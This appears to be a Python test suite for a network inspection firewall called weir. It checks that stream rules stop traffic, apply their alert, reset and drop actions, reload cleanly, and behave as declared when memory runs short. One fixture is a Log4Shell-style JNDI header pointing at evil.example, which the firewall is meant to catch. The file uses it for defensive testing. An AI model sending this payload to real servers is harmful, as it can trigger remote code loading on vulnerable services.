@@ -1,0 +1,242 @@
+# SPDX-License-Identifier: BSD-3-Clause
+"""Connections that weir carries: what was held against the stream rules is what arrives."""
+import os
+import socket
+import threading
+import time
+
+from cases import SOAK, Suite, check, check_equal
+from lab import ALLOW_ALL, ROOT, Lab, cpus, need_device, wait_for
+from test_transfer import SIZE, transfer
+
+suite = Suite()
+PORT = 8080
+INSPECT = ALLOW_ALL + """---
+kind: AccessPolicy
+metadata: { name: inspected }
+spec: { from: any, to: any, protocol: tcp, action: allow, inspect: true }
+"""
+SHIPPED = f"rules: {{ stream: [{ROOT}/rules/stream] }}\n"
+HARMLESS = b"GET / HTTP/1.1\r\nX: ${user}\r\n\r\n"
+JNDI = b"X-Api-Version: ${jndi:ldap://evil.example/a}\r\n"
+DEVICES = [{"device": device} for device in ("af_packet", "af_xdp", "tap")]
+
+
+class Recorder:
+    """A server that keeps what each connection's application read, and answers `answer` to it."""
+
+    def __init__(self, end, family=socket.AF_INET, answer=b""):
+        self.got, self.ends, self.answer = [], [], answer
+        self.listener = end.socket(family, socket.SOCK_STREAM)
+        self.listener.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
+        self.listener.bind(("::" if family == socket.AF_INET6 else "0.0.0.0", PORT))
+        self.listener.listen(128)
+        threading.Thread(target=self.accept, daemon=True).start()
+
+    def accept(self):
+        while True:
+            try:
+                connection, _ = self.listener.accept()
+            except OSError:
+                return
+            self.got.append(b"")
+            self.ends.append(None)
+            threading.Thread(target=self.read, args=(connection, len(self.got) - 1),
+                             daemon=True).start()
+
+    def read(self, connection, n):
+        try:
+            while data := connection.recv(65536):
+                self.got[n] += data
+                if self.answer:
+                    connection.sendall(self.answer)
+            self.ends[n] = "closed"
+        except OSError as why:
+            self.ends[n] = why.strerror
+        connection.close()
+
+    def __enter__(self):
+        return self
+
+    def __exit__(self, *_):
+        self.listener.shutdown(socket.SHUT_RDWR)
+        self.listener.close()
+
+
+def dial(lab, host=None):
+    host = host or lab.server.v4
+    s = lab.client.socket(socket.AF_INET6 if ":" in host else socket.AF_INET, socket.SOCK_STREAM)
+    s.settimeout(10)
+    s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
+    s.connect((host, PORT))
+    return s
+
+
+def say_slowly(s, text):
+    """A byte a segment; gives the error that ended it, None: none did."""
+    try:
+        for i in range(len(text)):
+            s.send(text[i:i + 1])
+            time.sleep(0.001)
+        return None
+    except OSError as why:
+        return why.strerror
+
+
+@suite.case(each=DEVICES)
+def a_jndi_string_in_one_byte_segments_does_not_arrive(device):
+    need_device(device)
+    with Lab(device) as lab, lab.weir(policy=INSPECT, more=SHIPPED) as weir:
+        for family, host in ((socket.AF_INET, lab.server.v4), (socket.AF_INET6, lab.server.v6)):
+            with Recorder(lab.server, family) as server, dial(lab, host) as good:
+                check_equal(say_slowly(good, HARMLESS), None, "harmless")
+                good.shutdown(socket.SHUT_WR)
+                check_equal(good.recv(1), b"", "the end of what is harmless")
+                check_equal(server.got[0], HARMLESS, "harmless bytes")
+                with dial(lab, host) as bad:
+                    say_slowly(bad, JNDI)
+                    wait_for(lambda: server.ends[1:] == ["Connection reset by peer"], 5,
+                             "the server's end")
+                    check(b"ldap:" not in server.got[1], f"the server read {server.got[1]}")
+            alert = weir.wait_event(event_type="alert", alert={"signature_id": 1001}, dest_ip=host)
+            check_equal(alert["stream"]["offset"], JNDI.index(b"ldap:") + 5, "offset")
+            check(alert["stream"]["context"].startswith("X-Api-Version: ${jndi:ldap:"),
+                  f"context: {alert['stream']['context']}")
+            check_equal(alert["weir"]["reason"], "stream_rule", "reason")
+
+
+@suite.case()
+def what_comes_in_one_piece_is_stopped_as_well():
+    with Lab("af_xdp") as lab, lab.weir(policy=INSPECT, more=SHIPPED) as weir, \
+            Recorder(lab.server) as server, dial(lab) as bad:
+        try:
+            bad.sendall(b"A" * 100000 + JNDI + b"B" * 100000)
+        except ConnectionResetError:
+            pass  # it may come before all is sent
+        wait_for(lambda: server.ends == ["Connection reset by peer"], 5, "the server's end")
+        check(b"jndi:ldap:" not in server.got[0], "the pattern arrived")
+        check_equal(weir.wait_event(event_type="alert")["stream"]["offset"],
+                    100000 + JNDI.index(b"ldap:") + 5, "offset")
+
+
+RULES = """1:/alert me/
+2:/reset me/
+3:/drop me/
+4:/from the server/
+"""
+SIDECAR = """patterns:
+  - { id: 1, message: "told", severity: low }
+  - { id: 2, action: reset }
+  - { id: 3, action: drop, ports: [ 8000-8999 ] }
+  - { id: 4, direction: to_client, action: reset }
+"""
+
+
+def write_rules(lab, rules=RULES, sidecar=SIDECAR):
+    folder = f"{lab.dir}/stream"
+    os.makedirs(folder, exist_ok=True)
+    for name, text in (("a.hs", rules), ("a.yaml", sidecar)):
+        with open(f"{folder}/{name}", "w", encoding="utf-8") as f:
+            f.write(text)
+    return f"rules: {{ stream: [{folder}], cache: {lab.dir}/cache }}\n"
+
+
+@suite.case()
+def each_action_does_what_it_says():
+    with Lab("af_xdp") as lab, lab.weir(policy=INSPECT, more=write_rules(lab)) as weir, \
+            Recorder(lab.server, answer=b"greetings from the server") as server:
+        with dial(lab) as s:
+            s.sendall(b"please alert me")
+            wait_for(lambda: server.got == [b"please alert me"], 5, "what is only told")
+            try:
+                s.recv(100)
+                check(False, "the answer arrived")
+            except ConnectionResetError:
+                pass
+        alert = weir.wait_event(event_type="alert", alert={"signature_id": 1})
+        check_equal(alert["alert"], {"action": "allowed", "signature_id": 1, "signature": "told",
+                                     "severity": 4}, "the alert")
+        check_equal(weir.wait_event(event_type="alert", alert={"signature_id": 4})["direction"],
+                    "to_client", "direction")
+        with dial(lab) as s:
+            wait_for(lambda: len(server.got) == 2, 5, "the server's side of the connection")
+            s.sendall(b"please drop me")
+            wait_for(lambda: server.ends[1:] == ["Connection reset by peer"], 5, "the receiver")
+            s.settimeout(1)
+            try:
+                check(False, f"the sender heard {s.recv(1)}")
+            except TimeoutError:
+                pass
+        check_equal(server.got[1], b"", "what was dropped")
+
+
+@suite.case()
+def rules_change_while_connections_are_open():
+    with Lab("af_xdp") as lab, lab.weir(policy=INSPECT, more=write_rules(lab)) as weir, \
+            Recorder(lab.server) as server, dial(lab) as old:
+        old.sendall(b"res")
+        wait_for(lambda: server.got == [b"res"], 5, "the first bytes")
+        write_rules(lab, "5:/other/\n", "patterns: [ { id: 5, action: reset } ]\n")
+        weir.weirctl("reload")
+        with dial(lab) as new:
+            new.sendall(b"reset me and the other")
+            wait_for(lambda: server.ends[1:] == ["Connection reset by peer"], 5, "the new rule")
+        old.sendall(b"et me")
+        wait_for(lambda: server.ends[0] == "Connection reset by peer", 5, "the old rule")
+        check_equal(server.got[0], b"res", "what arrived under the old rules")
+        write_rules(lab, "5:/other(/\n", "")
+        done = weir.weirctl("reload", check=False)
+        check("a.hs:1:4: error: Missing close parenthesis" in done.stdout and done.returncode == 1,
+              f"a bad rule: exit {done.returncode}: {done.stdout}")
+        with dial(lab) as new:
+            new.sendall(b"the other")
+            wait_for(lambda: server.ends[2:] == ["Connection reset by peer"], 5, "the running rule")
+
+
+@suite.case(limit_s=200, soak_limit_s=4000,
+            each=[{"device": device, "workers": n} for device in ("af_packet", "af_xdp", "tap")
+                  for n in ((1, 2) if SOAK or device == "af_xdp" else (1,))])
+def both_ways_at_once_with_inspection_the_checksums_are_right(device, workers):
+    need_device(device)
+    with Lab(device, workers=min(workers, len(cpus()))) as lab, \
+            lab.weir(policy=INSPECT, more=SHIPPED) as weir:
+        www = lab.nginx()
+        transfer(lab, lab.server.v4, www)
+        transfer(lab, f"[{lab.server.v6}]", www)
+        wait_for(lambda: weir.counters()["scanned_bytes"] > 4 * SIZE, 5, "all bytes scanned")
+        bad = {k: n for k, n in weir.drops().items() if k in ("tcp_memory", "scan_exhausted")}
+        check(not bad, f"drops: {bad}")
+
+
+@suite.case(each=[{"mode": mode} for mode in ("closed", "open", "reset")])
+def without_room_for_inspection_the_declared_mode_acts(mode):
+    policy = INSPECT.replace("unmatched: allow", f"failure: {{ memory: {mode} }}, unmatched: allow")
+    with Lab("af_xdp") as lab, \
+            lab.weir(policy=policy, memory=", inspected: 16", more=SHIPPED) as weir, \
+            Recorder(lab.server):
+        held = []
+        for _ in range(17):  # a worker has one place more than its share
+            held.append(dial(lab))
+        outcome = "connected"
+        try:
+            s = lab.client.socket(socket.AF_INET, socket.SOCK_STREAM)
+            s.settimeout(1.5)
+            s.connect((lab.server.v4, PORT))
+            s.close()
+        except TimeoutError:
+            outcome = "silence"
+        except ConnectionRefusedError:
+            outcome = "refused"
+        check_equal(outcome, {"closed": "silence", "open": "connected", "reset": "refused"}[mode],
+                    "the eighteenth connection")
+        weir.wait_event(event_type="failure", weir={"reason": "flow_table_full"})
+        for s in held:
+            s.close()
+        time.sleep(1)  # both sides have closed: those places are free for the next
+        with dial(lab) as s:
+            say_slowly(s, b"hello")
+        check_equal(weir.counters()["flows_inspected"], 18, "flows that were inspected")
+
+
+if __name__ == "__main__":
+    suite.main()
